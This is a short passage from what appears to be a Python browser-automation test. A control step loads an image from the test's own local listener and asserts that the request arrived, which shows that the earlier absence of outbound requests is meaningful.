    # Control: the same page can reach the listener, so the silence above means something.
    page.evaluate("url => { new Image().src = url; }", f"{out}/control.png")
    deadline = time.monotonic() + 30
    while not listener.hits and time.monotonic() < deadline:
        time.sleep(0.05)
    assert listener.hits == ["/control.png"]
    page.context.close()
